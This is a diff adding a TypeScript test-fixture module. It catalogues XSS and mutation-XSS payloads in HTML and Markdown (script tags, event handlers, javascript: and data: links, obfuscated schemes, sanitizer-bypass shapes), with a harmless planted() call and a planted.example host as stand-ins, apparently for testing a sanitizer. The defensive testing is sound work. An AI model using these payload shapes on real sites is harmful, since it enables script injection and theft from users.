@@ -1,0 +1,148 @@
+/**
+ * Ways by which a text could run a script, ask for something or lead elsewhere, by what they are; our own writing. `RUN` stands for a call of
+ * `planted`, `FAR` for an address of another computer, `NEAR` for one of the host's own that nothing of the program asks for.
+ */
+const html = {
+  'a script': '<script>RUN</script>',
+  'a script in odd letters': '<ScRiPt/x>RUN</sCrIpT >',
+  'a script from elsewhere': '<script src="FAR.js"></script>',
+  'a script of our own origin': '<script src="NEAR.js"></script>',
+  'a module': '<script type="module">import "NEAR.js"; RUN</script>',
+  'an import map': '<script type="importmap">{"imports":{"react":"NEAR.js"}}</script>',
+  'a script within a script': '<scr<script>ipt>RUN</scr</script>ipt>',
+  'a picture that fails': '<img src=x onerror="RUN">',
+  'a picture without spaces': '<img/src=x/onerror=RUN>',
+  'a remote picture': '<img src="FAR.png" alt="remote">',
+  'a picture of the host': '<img src="NEAR.png" alt="near">',
+  'a set of sources': '<img srcset="FAR 1x, NEAR 2x" alt="set">',
+  'a source of a picture': '<picture><source srcset="FAR"><img alt="picture"></picture>',
+  'a lazy picture': '<img loading="lazy" src="NEAR" onload="RUN">',
+  'an svg that loads': '<svg onload="RUN"></svg>',
+  'a script in svg': '<svg><script>RUN</script></svg>',
+  'a script from elsewhere in svg': '<svg><script href="NEAR.js"></script></svg>',
+  'an address animated in svg': '<svg><a><animate attributeName="href" values="javascript:RUN"/><text y="20">press</text></a></svg>',
+  'a handler set in svg': '<svg><set attributeName="onmouseover" to="RUN"/><rect width="9" height="9"/></svg>',
+  'a begun animation': '<svg><animate onbegin="RUN" attributeName="x" dur="1s"/></svg>',
+  'svg used from data': '<svg><use href="data:image/svg+xml,<svg id=x onload=RUN></svg>#x"/></svg>',
+  'a picture in svg': '<svg><image href="FAR" xlink:href="NEAR"/></svg>',
+  'a page in svg': '<svg><foreignObject><iframe srcdoc="<img src=x onerror=parent.RUN>"></iframe></foreignObject></svg>',
+  'a link in math': '<math href="javascript:RUN"><mtext>press</mtext></math>',
+  'an act in math': '<math><maction actiontype="statusline" xlink:href="javascript:RUN">press</maction></math>',
+  'mutation by a table in math': '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=RUN>"></table></math>',
+  'mutation by two forms': '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN></style></form>',
+  'mutation by style in svg': '<svg></p><style><a id="</style><img src=x onerror=RUN>"></a></svg>',
+  'mutation by noscript': '<noscript><p title="</noscript><img src=x onerror=RUN>"></p></noscript>',
+  'mutation by a title': '<title><a title="</title><img src=x onerror=RUN>"></a></title>',
+  'mutation by a text field': '<textarea><p title="</textarea><img src=x onerror=RUN>"></p></textarea>',
+  'mutation by xmp': '<xmp><p title="</xmp><img src=x onerror=RUN>"></p></xmp>',
+  'mutation by a select': '<select><template><style><!--</template><a rel="--><img src=x onerror=RUN>"></a></select>',
+  'mutation by annotation': '<math><annotation-xml encoding="text/html"><style><img src=x onerror=RUN></style></annotation-xml></math>',
+  'a comment that ends at once': '<!--><img src=x onerror=RUN>-->',
+  'a comment that ends oddly': '<!-- --!><img src=x onerror=RUN> -->',
+  'character data': '<svg><![CDATA[><img src=x onerror=RUN>]]></svg>',
+  'an instruction': '<?x ><img src=x onerror=RUN>?>',
+  'a template': '<template><img src=x onerror=RUN></template>',
+  'a shadow root': '<div><template shadowrootmode="open"><img src=x onerror=RUN></template></div>',
+  'a page by javascript': '<iframe src="javascript:parent.RUN"></iframe>',
+  'a page of its own source': '<iframe srcdoc="<script>parent.RUN</script>"></iframe>',
+  'a page from elsewhere': '<iframe src="FAR"></iframe>',
+  'a frame set': '<frameset><frame src="javascript:parent.RUN"></frameset>',
+  'an object': '<object data="javascript:RUN" type="text/html"></object>',
+  'something embedded': '<embed src="NEAR" type="text/html">',
+  'a form': '<form action="javascript:RUN"><button>press</button></form>',
+  'a button of a form elsewhere': '<form id="f" action="FAR"></form><button form="f" formaction="javascript:RUN">press</button>',
+  'a field that takes the focus': '<input autofocus onfocus="RUN">',
+  'a picture as a button': '<input type="image" src="NEAR" onerror="RUN">',
+  'text to write in': '<p contenteditable onbeforeinput="RUN" onfocus="RUN" tabindex="0">press</p>',
+  'details that open': '<details open ontoggle="RUN"><summary>press</summary></details>',
+  'something that pops up': '<button popovertarget="pop">press</button><div popover id="pop" onbeforetoggle="RUN">up</div>',
+  'a film': '<video src="FAR" poster="NEAR" onerror="RUN"></video>',
+  'a source of a sound': '<audio autoplay><source src="NEAR" onerror="RUN"></audio>',
+  'a track of a film': '<video><track default src="NEAR" onerror="RUN"></video>',
+  'a body that loads': '<body onload="RUN" onpageshow="RUN">',
+  'words that wander': '<marquee onstart="RUN">press</marquee>',
+  'an animation': '<p style="animation:blink 1s" onanimationstart="RUN">press</p>',
+  'a style sheet': '<style>@import "FAR"; body { background: url(NEAR) }</style>',
+  'a style': '<p style="background:url(NEAR)">press</p>',
+  'a background': '<table background="FAR"><tr><td background="NEAR">press</td></tr></table>',
+  'a linked style sheet': '<link rel="stylesheet" href="NEAR">',
+  'a page fetched beforehand': '<link rel="prefetch" href="NEAR"><link rel="preload" as="image" href="NEAR">',
+  'a page that goes elsewhere': '<meta http-equiv="refresh" content="0;url=FAR">',
+  'a base': '<base href="https://planted.example/">',
+  'names of the window': '<form name="body" id="root"><input name="location"></form><a id="main" name="main">press</a>',
+  'an area of a map': '<map name="m"><area href="javascript:RUN" shape="default"></map><img usemap="#m" alt="map">',
+  'a link by javascript': '<a href="javascript:RUN">press</a>',
+  'a link that tells': '<a href="#" ping="NEAR" onclick="RUN" onauxclick="RUN">press</a>',
+} as const
+
+/** Those that only Markdown has; each may be several lines. */
+const inMarkdown = {
+  'a link': '[press](javascript:RUN)',
+  'a link in odd letters': '[press](JaVaScRiPt:RUN)',
+  'a link in angles': '[press](<javascript:RUN>)',
+  'a link with a named sign': '[press](javascript&colon;RUN)',
+  'a link with a numbered letter': '[press](&#106;avascript:RUN)',
+  'a link with a line end': '[press](java&#10;script:RUN)',
+  'a link with a tab': '[press](java&Tab;script:RUN)',
+  'a link after a sign of control': '[press](&#1;javascript:RUN)',
+  'a link with escapes': '[press](javascript\\:RUN)',
+  'a link by percent signs': '[press](javascript%3ARUN)',
+  'a link by vbscript': '[press](vbscript:RUN)',
+  'a link to data': '[press](<data:text/html,<script>RUN</script>>)',
+  'a link to coded data': '[press](data:text/html;base64,PHNjcmlwdD5wbGFudGVkKCdjb2RlZCcpPC9zY3JpcHQ+)',
+  'a link to a file': '[press](file:///etc/hostname)',
+  'a link to a blob': '[press](blob:https://planted.example/blob)',
+  'a link without a scheme': '[press](//planted.example/x)',
+  'a link to the host': '[press](NEAR)',
+  'a link up': '[press](files/../NEAR)',
+  'a link out of its quotes': '[press](https://planted.example/"onmouseover="RUN)',
+  'a title out of its quotes': '[press](# "\\"onmouseover=\\"RUN")',
+  'a reference': '[press][away]\n\n[away]: javascript:RUN',
+  'a short reference': '[pressed]\n\n[pressed]: <data:text/html,<script>RUN</script>>',
+  'an address in angles': '<javascript:RUN>',
+  'data in angles': '<data:text/html,RUN>',
+  'a mail that breaks out': '<a"onmouseover="RUN@planted.example>',
+  'an address that breaks out': 'https://planted.example/"onmouseover="RUN"<img src=x onerror=RUN>',
+  'an image from elsewhere': '![image](FAR.png)',
+  'an image of the host': '![image](NEAR.png)',
+  'an image of data': '![image](<data:image/svg+xml,<svg onload=RUN>>)',
+  'an image by javascript': '![image](javascript:RUN)',
+  'an image by reference': '![image][pic]\n\n[pic]: FAR.png',
+  'an image in a link': '[![image](FAR.png)](javascript:RUN)',
+  'an image up': '![image](files/../NEAR)',
+  'an image up in escapes': '![image](files/..%2fplanted%2fup)',
+  'an image out of its quotes': '![image"onerror="RUN](files/none.png)',
+  'a language out of its quotes': '```"onmouseover="RUN\ncode\n```',
+  'a footnote': 'Words[^"><img src=x onerror=RUN>]\n\n[^"><img src=x onerror=RUN>]: <svg onload=RUN>',
+  'a note inline': 'Words^[<img src=x onerror=RUN> [press](javascript:RUN)]',
+  'a link to a note': '[[<img src=x onerror=RUN>]]',
+  'words of a link to a note': '[[Nowhere|"><svg onload=RUN>]]',
+  'a place of a link to a note': '[[Nowhere#"onmouseover="RUN]]',
+  'a note by javascript': '[[javascript:RUN]]',
+  'a picture of a note': '![[<img src=x onerror=RUN>.png]]',
+  'a cell': '| <img src=x onerror=RUN> |\n|---|\n| [press](javascript:RUN) [[a\\|<svg onload=RUN>]] |',
+  'a heading': '# <svg onload=RUN> {#x onclick=RUN}',
+  'a task': '- [x] <input onfocus=RUN autofocus>',
+  'words between percent signs': '%%<script>RUN</script>%%',
+  'signs by name': '&lt;img src=x onerror=RUN&gt; &#60;script&#62;RUN&#60;/script&#62;',
+  'an escaped script': '\\<script>RUN\\</script>',
+  'a script without an end': '<script>RUN //',
+} as const
+
+/** With its calls and addresses; each says where it stood when it was heard. */
+function plant(shape: string, place: string): string {
+  const word = place.replaceAll(/\W+/g, '-')
+  return shape
+    .replaceAll('RUN', `planted('${word}')`)
+    .replaceAll('FAR', `https://planted.example/${word}`)
+    .replaceAll('NEAR', `/planted/${word}`)
+}
+
+const all = (shapes: Readonly<Record<string, string>>, place: string) =>
+  Object.entries(shapes).map(([name, shape]) => plant(shape, `${place} ${name}`))
+
+/** HTML that is hostile, a line each. */
+export const hostileHtml = (place: string): readonly string[] => all(html, place)
+
+/** Hostile Markdown besides. */
+export const hostileMarkdown = (place: string): readonly string[] => all(inMarkdown, place)
